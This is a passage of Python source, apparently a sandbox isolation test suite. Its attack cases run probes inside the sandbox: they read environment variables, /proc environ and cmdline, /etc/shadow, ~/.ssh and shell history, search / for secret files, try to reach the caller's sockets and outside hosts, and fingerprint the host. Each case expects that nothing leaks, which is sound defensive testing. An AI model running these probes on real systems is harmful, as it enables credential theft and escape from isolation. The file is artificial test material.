  expected='host view: the run\'s CapEff 0 and uid not 0',
  judge=judge_priorities)

# ---- information ----------------------------------------------------------------------------------

A(id='info_env_secret', **{'class': 'information'},
  description='the caller\'s environment holds a secret; the run reads os.environ, /proc/*/environ, /proc/*/cmdline, mountinfo',
  setup=setup_env_secret,
  code=prog(r'''
say(dict(os.environ))
for p in os.listdir('/proc'):
    if p.isdigit() or p == 'self':
        for f in ('environ', 'cmdline'):
            try:
                say(p, f, open('/proc/%s/%s' % (p, f), 'rb').read()[:4000])
            except OSError:
                pass
say(open('/proc/self/mountinfo').read()[:3000])
'''),
  expected='the secret does not appear in anything the run returns',
  judge=judge_secret())

A(id='info_files', **{'class': 'information'},
  description='read a secret file in the checkout, list the repo, ~/.ssh, /root, read /etc/shadow, walk / for the secret\'s name',
  setup=setup_repo_secret, teardown=teardown_rm,
  code=prog(r'''
for p in ('@SECRET_PATH@', '/etc/shadow', '/etc/gshadow', '/etc/passwd', '@HOME@/.bash_history', '/root/.bash_history'):
    try:
        say('READ', p, open(p).read()[:2000])
    except OSError as e:
        say('no', p, e)
for d in ('@REPO_DIR@', '@HOME@', '@HOME@/.ssh', '/root', '/root/.ssh', '/home', '/work', '/etc'):
    try:
        say('SSHLIST' if d.endswith('.ssh') else 'LIST', os.listdir(d)[:50], d)
    except OSError as e:
        say('nolist', d, e)
end = time.time() + 3
for root, dirs, files in os.walk('/'):
    if root.startswith('/proc') or time.time() > end:
        dirs[:] = []
        continue
    for fn in files:
        if fn.startswith('.secret-'):
            try:
                say('FOUND', root, fn, open(os.path.join(root, fn)).read())
            except OSError:
                pass
'''),
  limits=L(wall_s=12, cpu_s=6, memory_mb=256, max_processes=1),
  expected='no secret from the checkout, no /etc/shadow line, no ~/.ssh listing in the output',
  judge=judge_files)

A(id='info_network', **{'class': 'information'},
  description='connect to the caller\'s TCP listeners on 127.0.0.1/::1, send UDP to it, the caller\'s abstract unix socket, DNS, 8.8.8.8',
  setup=setup_net,
  code=prog(r'''
S = RAWSOCK
def t(name, f):
    try:
        say(name, f())
    except Exception as e:
        say(name, repr(e)[:80])
def tcp(fam, addr):
    s = S.socket(fam, 1); s.settimeout(1); s.connect(addr); return 'connected'
t('tcp4', lambda: tcp(2, ('127.0.0.1', @TCP4@)))
t('tcp6', lambda: tcp(10, ('::1', @TCP6@, 0, 0)))
t('udp', lambda: S.socket(2, 2).sendto(b'x', ('127.0.0.1', @UDP@)))
t('abstract', lambda: tcp(1, b'\0r3b4-@NONCE@'))
t('abstract-dgram', lambda: S.socket(1, 2).sendto(b'x', b'\0r3b4-@NONCE@'))
t('dns', lambda: __import__('socket').getaddrinfo('example.com', 80))
t('udp-out', lambda: S.socket(2, 2).sendto(b'x', ('8.8.8.8', 53)))
t('tcp-out', lambda: tcp(2, ('1.1.1.1', 80)))
'''),
  expected='the caller\'s listeners see no connection or datagram',
  outside=outside_net, judge=judge_net)

A(id='info_caller_proc', **{'class': 'information'},
  description='look for the caller (its argv holds a secret): /proc/<caller pid>, every /proc/N, /proc/1/root, /proc/self/ns, mountinfo',
  code=prog(r'''
for p in ['@CALLER_PID@', '1', '2'] + [d for d in os.listdir('/proc') if d.isdigit()]:
    for f in ('cmdline', 'status', 'environ', 'root/proc/@CALLER_PID@/cmdline', 'cwd', 'exe'):
        try:
            q = '/proc/%s/%s' % (p, f)
            say(q, os.readlink(q) if f in ('cwd', 'exe') else open(q, 'rb').read()[:1500])
        except OSError:
            pass
for q in ('/proc/self/mountinfo', '/proc/self/cgroup', '/proc/1/cgroup'):
    try:
        say(q, open(q).read()[:3000])
    except OSError:
        pass
'''),
  expected='the caller\'s argv secret does not appear (the caller is invisible)',
  judge=judge_secret())

A(id='info_locks_keys', **{'class': 'information'},
  description='the caller holds an flock and a process key; the run reads /proc/locks, /proc/keys, /proc/key-users',
  setup=setup_lock_key, teardown=teardown_fds,
  code=prog(r'''
for p in ('/proc/locks', '/proc/keys', '/proc/key-users'):
    try:
        say(p, open(p).read()[:20000])
    except OSError as e:
        say(p, e)
'''),
  expected='neither the caller\'s lock inode nor its key is visible; the caller\'s key survives',
  outside=outside_lock_key, judge=judge_lock_key)

A(id='info_host_fingerprint', **{'class': 'information'},
  description='boot_id, /proc/cmdline, uptime, hostname, meminfo, loadavg: host identity and activity readable',
  code=prog(r'''
for p in ('/proc/sys/kernel/random/boot_id', '/proc/cmdline', '/proc/uptime', '/proc/sys/kernel/hostname',
          '/proc/loadavg', '/proc/meminfo', '/proc/stat'):
    try:
        print(p, open(p).read()[:600])
    except OSError as e:
        print(p, e)
''', prelude=False),
  expected='host boot_id and kernel cmdline not visible (low severity: a fingerprint, not a secret)',
  outside=host_fingerprint, judge=judge_fingerprint)

BY_ID = {a['id']: a for a in ATTACKS}
assert len(BY_ID) == len(ATTACKS)
